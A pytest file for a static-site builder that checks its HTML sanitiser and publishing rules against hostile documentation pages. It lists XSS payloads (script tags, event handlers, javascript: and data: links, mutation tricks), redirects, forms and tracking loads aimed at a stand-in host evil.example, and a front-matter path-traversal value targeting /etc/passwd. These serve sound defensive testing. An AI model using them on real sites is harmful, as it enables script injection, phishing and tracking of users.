"""Hand-written pages are sanitised, not trusted: their HTML passes an allow-list sanitiser (nh3)
that keeps the markup our pages use and drops active content; only Markdown pages, raster
images and docs/stylesheets/*.css are published from docs/; front matter sets a title and a
description only. A hostile page built into a site leaves nothing active in it."""

from __future__ import annotations

import html
import re
import shutil

import markdown
import pytest

from helpers import REPO
from site_builder.errors import BuildError
from site_builder.publish.docs_files import check_docs_file
from site_builder.publish.mkdocs_config import MARKDOWN_EXTENSIONS
from site_builder.publish.sanitise import plain_text, sanitise_html

# (attack, what must not survive it)
ATTACKS = {
    "script": ("<p>a</p><script>alert(1)</script>", "alert"),
    "event handler": ('<img src="x.png" onerror="alert(1)">', "onerror"),
    "javascript link": ('<a href="javascript:alert(1)">x</a>', "javascript"),
    "entity-encoded scheme": ('<a href="jav&#x09;ascript&colon;alert(1)">x</a>', "alert"),
    "data link": ('<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">x</a>', "data:"),
    "base": ('<base href="https://evil.example/">', "evil.example"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "evil.example"),
    "style contents": ("<style>body{background:url(https://evil.example/x)}</style>", "evil.example"),
    "style attribute": ('<p style="background:url(https://evil.example/x)">a</p>', "evil.example"),
    "svg animation of a link": (
        '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>',
        "animate",
    ),
    "mathml link": ('<math><mi xlink:href="javascript:alert(1)">x</mi></math>', "javascript"),
    "form": (
        '<form action="https://evil.example/"><input name="q"><button formaction="https://evil.example/">b</button></form>',
        "evil",
    ),
    "remote image": ('<img src="https://evil.example/track.png" alt="a">', "evil.example"),
    "protocol-relative image": ('<img src="//evil.example/track.png" alt="a">', "evil.example"),
    "srcset": ('<img src="a.png" srcset="https://evil.example/a.png 2x">', "evil.example"),
    "data image": ('<img src="data:image/svg+xml,&lt;svg onload=alert(1)&gt;">', "data:"),
    "iframe": ('<iframe src="https://evil.example/"></iframe>', "evil.example"),
    "object": ('<object data="https://evil.example/x.swf"></object>', "evil.example"),
    "embed": ('<embed src="https://evil.example/x.swf">', "evil.example"),
    "stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">', "evil.example"),
    "video poster": ('<video poster="https://evil.example/p.png"><source src="https://evil.example/v.mp4"></video>', "evil"),
    "noscript mutation": ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "onerror"),
    "template": ("<template><script>alert(1)</script></template>", "alert"),
    "toggle handler": ('<details open ontoggle="alert(1)"><summary>s</summary></details>', "ontoggle"),
    "theme's own id": ('<div id="__config">{"base": "https://evil.example"}</div>', "__config"),
    "theme's own class": ('<div class="md-search__form">x</div>', "md-search"),
    "image map": ('<map name="m"><area href="javascript:alert(1)"></map>', "javascript"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_sanitiser_drops_active_content(attack):
    source, forbidden = ATTACKS[attack]
    cleaned = sanitise_html(source)
    assert forbidden not in cleaned, cleaned
    assert not re.search(r"<(script|style|base|meta|link|iframe|object|embed|form|input|svg|math|template)\b", cleaned)


@pytest.mark.parametrize("page", ["about.md", "contribute.md", "vi/about.md", "vi/contribute.md"])
def test_the_sanitiser_keeps_the_markup_of_our_pages(page):
    text = (REPO / "docs" / page).read_text(encoding="utf-8")
    rendered = markdown.markdown(text, extensions=[next(iter(e)) if isinstance(e, dict) else e for e in MARKDOWN_EXTENSIONS])
    rendered += '\n<div class="admonition note"><p class="admonition-title">Note</p><p>a <a href="../data/">link</a></p></div>'
    assert html.unescape(sanitise_html(rendered)) == html.unescape(rendered)


def test_what_the_theme_writes_unescaped_becomes_plain_text():
    assert plain_text('<img src=x onerror="alert(1)">Title') == "Title"
    assert plain_text("a &lt;script&gt; b") == "a &lt;script&gt; b"
    assert plain_text("<script>alert(1)</script>Safe") == "Safe"


# Which files of docs/ are published


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        ("evil.html", b"<script>alert(1)</script>", "publishes only pages"),
        ("assets/logo.svg", b'<svg onload="alert(1)"/>', "publishes only pages"),
        ("assets/app.js", b"alert(1)", "publishes only pages"),
        ("assets/photo.png", b"<html><script>alert(1)</script>", "is not a PNG image"),
        ("assets/photo.webp", b"RIFF\x00\x00\x00\x00WAVE", "is not a WEBP image"),
        ("evil.css", b"body{}", "publishes only pages"),
        ("stylesheets/deep/evil.css", b"body{}", "publishes only pages"),
        (".htaccess", b"Header set X 1", "publishes only pages"),
    ],
)
def test_a_file_of_a_kind_the_site_does_not_publish_stops_the_build(tmp_path, name, data, message):
    path = tmp_path / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    with pytest.raises(BuildError, match=message):
        check_docs_file(path, path.relative_to(tmp_path), f"docs/{name}")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("---\ntemplate: ../../../etc/passwd\n---\n# x\n", "sets 'template'"),
        ("---\nhide:\n  - navigation\n---\n# x\n", "sets 'hide'"),
        ("Template: main.html\n\n# x\n", "sets 'template'"),  # MultiMarkdown-style metadata
        ('---\ntitle: "a\\nb"\n---\n# x\n', "one line of text"),
        ("---\ndescription: [1, 2]\n---\n# x\n", "one line of text"),
        ("# x\n\n" + "".join("    " * i + "- a\n" for i in range(300)), "nested deeper than a page may be"),
        ("# x\n\n" + ">" * 50 + " deep\n", "nested deeper than a page may be"),
        ("# x\n\n" + "word " * 120_000, "a page is limited to"),
    ],
    ids=["template", "hide", "multimarkdown", "two-lines", "not-text", "deep-list", "deep-quote", "huge"],
)
def test_a_page_the_build_cannot_read_safely_stops_it_with_a_sentence(tmp_path, text, message):
    path = tmp_path / "page.md"
    path.write_text(text, encoding="utf-8")
    with pytest.raises(BuildError, match=message):
        check_docs_file(path, path.relative_to(tmp_path), "docs/page.md")


def test_a_page_that_is_not_utf8_is_named_at_its_line(tmp_path):
    path = tmp_path / "page.md"
    path.write_bytes(b"# x\n\nok\n\xff\xfe\n")
    with pytest.raises(BuildError, match=r"docs/page.md:4: this line is not UTF-8"):
        check_docs_file(path, path.relative_to(tmp_path), "docs/page.md")


def test_our_own_files_are_published():
    for path in sorted((REPO / "docs").rglob("*")):
        if path.is_file():
            check_docs_file(path, path.relative_to(REPO / "docs"), str(path))


# A hostile page built into a site

HOSTILE_PAGE = (
    (
        "---\ntitle: Hostile <img src=x onerror=alert('title')>\n---\n\n"
        "# Heading &lt;script&gt;alert('h1')&lt;/script&gt;\n\n"
        "## Second <img src=pixel.png onerror=alert('toc')>\n\n"
        "A paragraph {: onclick=\"alert('attr')\" }\n\n"
        "[a link](javascript:alert('md')) and ![an image](https://evil.example/md.png)\n\n"
        + "\n\n".join(source for source, _ in ATTACKS.values())
        + "\n"
    )
    .replace('src="x.png"', 'src="pixel.png"')
    .replace('src="a.png"', 'src="pixel.png"')
    .replace("src=x ", "src=pixel.png ")
)
# The smallest PNG: the images the page keeps must exist, or the build's link check stops it.
PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6300010000050001"
    "0d0a2db40000000049454e44ae426082"
)


@pytest.fixture(scope="module")
def hostile_docs_site(tmp_path_factory):
    from fixtures.build.project import make_fixture_project
    from site_builder.pipeline import BuildPaths, build_site

    tmp = tmp_path_factory.mktemp("hostile-docs")
    paths = make_fixture_project(tmp)
    docs = tmp / "docs"
    shutil.copytree(REPO / "docs", docs)
    for folder in (docs / "hostile", docs / "vi" / "hostile"):
        folder.mkdir()
        (folder / "index.md").write_text(HOSTILE_PAGE, encoding="utf-8")
        (folder / "pixel.png").write_bytes(PIXEL)
    paths = BuildPaths(paths.root, paths.data_dir, docs, paths.config_file, paths.work_dir, paths.site_dir)
    build_site(paths, validator=None, date="2026-01-02", progress=lambda line: None, workers=1)
    return paths.site_dir


@pytest.mark.parametrize("page", ["hostile/index.html", "vi/hostile/index.html"])
def test_a_hostile_page_leaves_nothing_active_in_the_site(hostile_docs_site, page):
    from selectolax.lexbor import LexborHTMLParser

    built = (hostile_docs_site / page).read_text(encoding="utf-8")
    tree = LexborHTMLParser(built)
    article = tree.css_first("article")
    active = "script, style, base, meta, link, iframe, object, embed, form, input, button, svg, math, template, video, area"
    assert [node.tag for node in article.css(active)] == []
    for node in tree.css("*"):
        attributes = node.attributes
        assert not [name for name in attributes if name.lower().startswith("on")], node.html[:200]
        for name in ("href", "src", "srcset", "action", "formaction", "poster", "data"):
            value = (attributes.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "data:", "vbscript:")), node.html[:200]
            if name != "href":
                assert "evil.example" not in value, node.html[:200]
    assert [node.attributes.get("id") for node in tree.css('[id="__config"]')] == ["__config"]  # the theme's own only
    assert [m.attributes for m in tree.css("meta[http-equiv]")] == [
        {"http-equiv": "Content-Security-Policy", "content": tree.css_first("meta[http-equiv]").attributes["content"]}
    ]
    assert tree.css_first("title").text().startswith("Hostile  - ") and tree.css_first("head").css("title img") == []
    assert tree.css_first('.md-header__topic[data-md-component="header-topic"]').css("img") == []
